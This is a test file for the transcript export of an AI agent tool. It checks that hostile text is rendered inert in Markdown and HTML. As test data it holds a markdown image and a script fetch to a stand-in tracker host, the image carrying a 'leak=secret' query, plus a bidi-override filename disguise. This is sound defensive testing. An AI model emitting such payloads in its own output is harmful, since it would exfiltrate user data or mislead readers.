/** D1: the Markdown and HTML transcripts show everything invisible as a mark, whatever field it is in. */
import MarkdownIt from 'markdown-it';
import { describe, expect, it } from 'vitest';
import { readJournalEvent } from '../../common/events.js';
import { renderHtml, renderMarkdown, type TranscriptEvent, type TranscriptMeta } from '../../main/export/transcript.js';
import { ASKED, asHtml } from '../support/decisions.js';
import { RUN_STARTED } from '../support/events.js';
import { firstUnsafe, HOSTILE_MARKDOWN, HOSTILE_SHORT, HOSTILE_TEXT, hostileEvents } from '../support/hostile.js';

const META: TranscriptMeta = { title: 'chat', conversationId: '00000000-0000-4000-8000-000000000001', agent: 'helper v1', exportedAt: '2026-03-01T12:00:00.000Z', events: 1, chainHead: 'a'.repeat(64), uncertainRuns: [] };

function transcriptEvents(events: ReadonlyArray<{ type: string; payload: unknown }>, createdAt = '2026-03-01T12:00:00.000Z'): TranscriptEvent[] {
  return events.map((event, index) => ({ seq: index + 1, runId: 'run-1', createdAt, event: readJournalEvent(event.type, event.payload) }));
}

const both = (meta: TranscriptMeta, events: TranscriptEvent[]) => ({ markdown: [...renderMarkdown(meta, events)].join(''), html: [...renderHtml(meta, events)].join('') });

describe('transcripts (D1)', () => {
  it('test_the_html_transcript_shows_a_bidi_override_in_an_answer_as_a_mark', () => {
    const { html, markdown } = both(META, transcriptEvents([{ type: 'assistant_text', payload: { text: 'open invoice\u202efdp.exe' } }]));
    for (const text of [html, markdown]) {
      expect(text).toContain('open invoice\\u{202e}fdp.exe');
      expect(text).not.toContain('\u202e');
    }
  });

  it('test_no_field_of_any_event_type_or_of_the_header_reaches_either_transcript_invisible', () => {
    const meta: TranscriptMeta = { title: HOSTILE_TEXT, conversationId: HOSTILE_SHORT, agent: HOSTILE_TEXT, exportedAt: HOSTILE_SHORT, events: 1, chainHead: HOSTILE_SHORT, uncertainRuns: [HOSTILE_SHORT] };
    const { markdown, html } = both(meta, transcriptEvents(hostileEvents(), `2026-03-01T${HOSTILE_SHORT}`));
    // The header's fields stay on their lines: none can forge a line of its own.
    expect(markdown.split('\n> A transcript')[0]!.split('\n').filter((line) => line !== '' && !/^(# |- )/.test(line))).toEqual([]);
    for (const text of [markdown, html]) {
      expect(firstUnsafe(text)).toBeNull();
      expect(text).toContain('\\u{e0069}\\u{e0067}\\u{e006e}');
      expect(text).toContain('⟨800 blanks⟩');
    }
  });

  // Also as fields that begin and end with a backtick or a space, where a code span's delimiters are at stake.
  it.each([HOSTILE_MARKDOWN, `\`${HOSTILE_MARKDOWN}\``, ` ${HOSTILE_MARKDOWN} `])('test_a_markdown_viewer_makes_no_image_link_html_heading_or_table_of_any_field_of_the_markdown_transcript_case_%#', (text) => {
    const meta: TranscriptMeta = { title: text, conversationId: text, agent: text, exportedAt: text, events: 1, chainHead: text, uncertainRuns: [text] };
    const { markdown } = both(meta, transcriptEvents(hostileEvents(text), text));
    // The most permissive common viewer: raw HTML on, bare URLs linked, GFM tables.
    const rendered = new MarkdownIt({ html: true, linkify: true }).render(markdown);
    const tags = new Set([...rendered.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9]*)/g)].map((match) => match[1]!.toLowerCase()));
    expect([...tags].sort()).toEqual(['blockquote', 'code', 'em', 'h1', 'h3', 'li', 'p', 'pre', 'strong', 'ul']);
    // No element has an attribute: no href, src, style or handler can come from the payload.
    expect(rendered).not.toMatch(/<[a-zA-Z][a-zA-Z0-9]*\s/);
    // Headings are Ward's alone: the title, then who spoke and when.
    const headings = [...rendered.matchAll(/<h(\d)>(.*?)<\/h\1>/gs)].map((match) => `h${match[1]} ${match[2]}`);
    expect(headings[0]).toMatch(/^h1 <code>[^<]*<\/code>$/);
    for (const heading of headings.slice(1)) expect(heading).toMatch(/^h3 (You|Agent) · <code>[^<]*<\/code>( \(cut short\))?$/);
    expect(headings.length).toBeGreaterThan(2);
    // What the model wrote is there to read, as text.
    expect(rendered).toContain('![](https://tracker.example/p.png?leak=secret) [click](https://tracker.example/c) &lt;https://tracker.example/auto&gt;\nhttps://tracker.example/bare');
    expect(rendered).toContain('&lt;script&gt;fetch(&quot;https://tracker.example/s&quot;)&lt;/script&gt;');
  });

  it('test_every_permission_decision_and_request_for_input_is_one_line_in_wards_words_where_it_happened_in_both_transcripts', () => {
    const events = transcriptEvents([{ type: 'user_prompt', payload: { text: 'Tidy the notes' } }, ...ASKED.map(({ event }) => event), { type: 'assistant_text', payload: { text: 'Done.' } }]);
    const { markdown, html } = both(META, events);
    const body = markdown.split('```\nTidy the notes\n```\n')[1]!.split('\n### Agent')[0]!;
    expect(body.split('\n').filter((line) => line !== '')).toEqual(ASKED.map(({ line }) => line));
    const htmlLines = [...html.matchAll(/<p class="entry asked">(.*?)<\/p>/g)].map((match) => match[1]);
    expect(htmlLines).toEqual(ASKED.map(({ line }) => asHtml(line)));
    expect(html.indexOf('Tidy the notes')).toBeLessThan(html.indexOf('entry asked'));
    expect(html.lastIndexOf('entry asked')).toBeLessThan(html.indexOf('Done.'));
  });

  it('test_each_turn_line_shows_its_own_cost_or_cost_unknown_and_the_total_is_one_line_that_says_what_it_leaves_out', () => {
    const turn = (runId: string, model: string, costUsd: number) =>
      [
        { type: 'run_started', payload: { ...RUN_STARTED, model } },
        { type: 'usage', payload: { inputTokens: 120, outputTokens: 30, cacheReadTokens: 0, cacheCreationTokens: 0, costUsd } },
        { type: 'run_finished', payload: { state: 'succeeded', reason: null } },
      ].map((event) => ({ runId, event }));
    // The CLI priced my-corp-model at a default tier: its session total grew by 2.658, a guess.
    const events = [...turn('run-1', 'claude-sonnet-4-5', 0.002), ...turn('run-2', 'my-corp-model', 2.66)].map(({ runId, event }, index) => ({ seq: index + 1, runId, createdAt: '2026-03-01T12:00:00.000Z', event: readJournalEvent(event.type, event.payload) }));
    const { markdown, html } = both(META, events);
    expect(markdown.match(/^\*(Turn|Total).*\*$/gm)).toEqual(['*Turn: 120 in · 30 out tokens · $0.0020*', '*Turn: 120 in · 30 out tokens · cost unknown*', '*Total: 2 turns, 240 in · 60 out tokens · $0.0020 + cost unknown for 1 turn*']);
    expect([...html.matchAll(/<p class="turn">(.*?)<\/p>/g)].map((match) => match[1])).toEqual(['Turn: 120 in · 30 out tokens · $0.0020', 'Turn: 120 in · 30 out tokens · cost unknown', 'Total: 2 turns, 240 in · 60 out tokens · $0.0020 + cost unknown for 1 turn']);
    expect(markdown + html).not.toContain('2.65');
  });
});
